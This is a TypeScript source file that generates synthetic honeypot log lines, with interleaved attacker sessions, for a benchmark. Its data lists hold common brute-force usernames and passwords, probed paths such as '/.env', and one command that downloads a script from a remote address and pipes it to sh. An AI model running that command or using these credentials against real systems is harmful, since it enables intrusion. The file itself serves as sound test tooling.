/** Makes a log such as the decoys of a busy fleet print it: sessions of many attackers, interleaved. */

/** Sessions that are open at a time. */
const OPEN_SESSIONS = 64;

/** Microseconds between two lines, on average. */
const STEP_MICROS = 500;

const START_MILLIS = Date.UTC(2026, 4, 3, 5, 12, 51);

const BUFFER = 4 * 1024 * 1024;

const USERS = ["root", "admin", "ubuntu", "oracle", "postgres", "test", "git", "pi"] as const;
const PASSWORDS = ["123456", "password", "toor", 'qwe"]rty', "P@ssw0rd!", "1q2w3e4r", "\\\\srv"];
const PATHS = ["/", "/wp-login.php", "/.env", "/cgi-bin/luci/;stok=/locale", "/boaform/formLogin"];
const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
  "curl/7.88.1",
  "zgrab/0.x",
] as const;
const COMMANDS = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cd /tmp && wget http://198.51.100.7/x.sh -O- | sh",
] as const;

/** Numbers that are the same in every run. */
class Numbers {
  #state = 0x2545f491;

  /** From 0 to below `limit`. */
  below(limit: number): number {
    this.#state ^= this.#state << 13;
    this.#state ^= this.#state >>> 17;
    this.#state ^= this.#state << 5;
    return (this.#state >>> 0) % limit;
  }

  of<T>(values: readonly T[]): T {
    return values[this.below(values.length)]!;
  }
}

/** A line from behind its time on: host, program, process, name, data and text. */
type Tail = string;

/** The lines of one visit, first to last. */
function session(attacker: number, numbers: Numbers): Tail[] {
  const ip = `${11 + (attacker >> 16)}.${attacker >> 8 & 255}.${attacker & 255}.${
    1 + attacker % 251
  }`;
  const decky = `decky-${String(1 + numbers.below(20)).padStart(2, "0")}`;
  const port = 1024 + numbers.below(60_000);
  const kind = numbers.below(10);
  const service = kind < 5 ? "ssh" : kind < 8 ? "http" : kind < 9 ? "smtp" : "telnet";
  const line = (type: string, data: string) => `${decky} ${service} - ${type} ${data}`;
  const from = `[relay@55555 src_ip="${ip}" src_port="${port}"`;
  const tails = [line("connect", `${from}]`)];
  const tries = 1 + numbers.below(4);
  for (let count = 0; count < tries; count++) {
    if (service === "http") {
      const headers = `{\\"Host\\": \\"192.0.2.9\\", \\"Accept\\": \\"*/*\\"}`;
      tails.push(line(
        "request",
        `[relay@55555 method="GET" path="${numbers.of(PATHS)}" remote_addr="${ip}" ` +
          `user_agent="${numbers.of(AGENTS)}"${
            numbers.below(4) === 0 ? ` headers="${headers}"` : ""
          }]`,
      ));
    } else if (service === "smtp") {
      tails.push(line("ehlo", `[relay@55555 src="${ip}" domain="mail${port}.example.net"]`));
    } else {
      const password = numbers.of(PASSWORDS).replace(/[\\"\]]/g, "\\$&");
      const data = `username="${numbers.of(USERS)}" password="${password}" outcome="failure"`;
      tails.push(line("auth_attempt", `[relay@55555 src_ip="${ip}" ${data}]`));
    }
  }
  if (service === "ssh" && kind < 2) {
    const command = `CMD uid=0 user=root src=${ip} pwd=/root cmd=${numbers.of(COMMANDS)}`;
    tails.push(`${decky} bash - - - ${command}`);
    tails.push(`${decky} sshd ${port} - - Accepted password for root from ${ip} port ${port} ssh2`);
  }
  if (attacker % 50 === 0) {
    tails.push(line("unknown_command", `[relay@55555 src_ip="${ip}" data="h\u00e9llo \u2603"]`));
  }
  tails.push(line("disconnect", `${from} duration_s="${numbers.below(90)}.${numbers.below(10)}"]`));
  return tails;
}

/**
 * Writes `count` lines of `attackers` different addresses to `path`, and one of the type `bench_end` behind
 * them. @returns bytes
 */
export function makeDecoyLines(path: string, count: number, attackers: number): number {
  using file = Deno.openSync(path, { write: true, create: true, truncate: true });
  const numbers = new Numbers();
  const encoder = new TextEncoder();
  const open: Tail[][] = [];
  let next = 0;
  let micros = 0;
  let text = "";
  let bytes = 0;
  const flush = () => {
    const batch = encoder.encode(text);
    for (let rest = batch; rest.length > 0;) rest = rest.subarray(file.writeSync(rest));
    bytes += batch.length;
    text = "";
  };
  const add = (tail: Tail) => {
    micros += numbers.below(2 * STEP_MICROS);
    const second = new Date(START_MILLIS + Math.floor(micros / 1000)).toISOString().slice(0, 19);
    text += `<134>1 ${second}.${String(micros % 1_000_000).padStart(6, "0")}+00:00 ${tail}\n`;
    if (text.length > BUFFER) flush();
  };
  for (let line = 0; line < count; line++) {
    while (open.length < OPEN_SESSIONS) {
      // Each once, and then any.
      const attacker = next < attackers ? next : numbers.below(attackers);
      next++;
      open.push(session(attacker, numbers));
    }
    const index = numbers.below(open.length);
    add(open[index]!.shift()!);
    if (open[index]!.length === 0) open.splice(index, 1);
  }
  add("decky-01 bench - bench_end -");
  flush();
  return bytes;
}
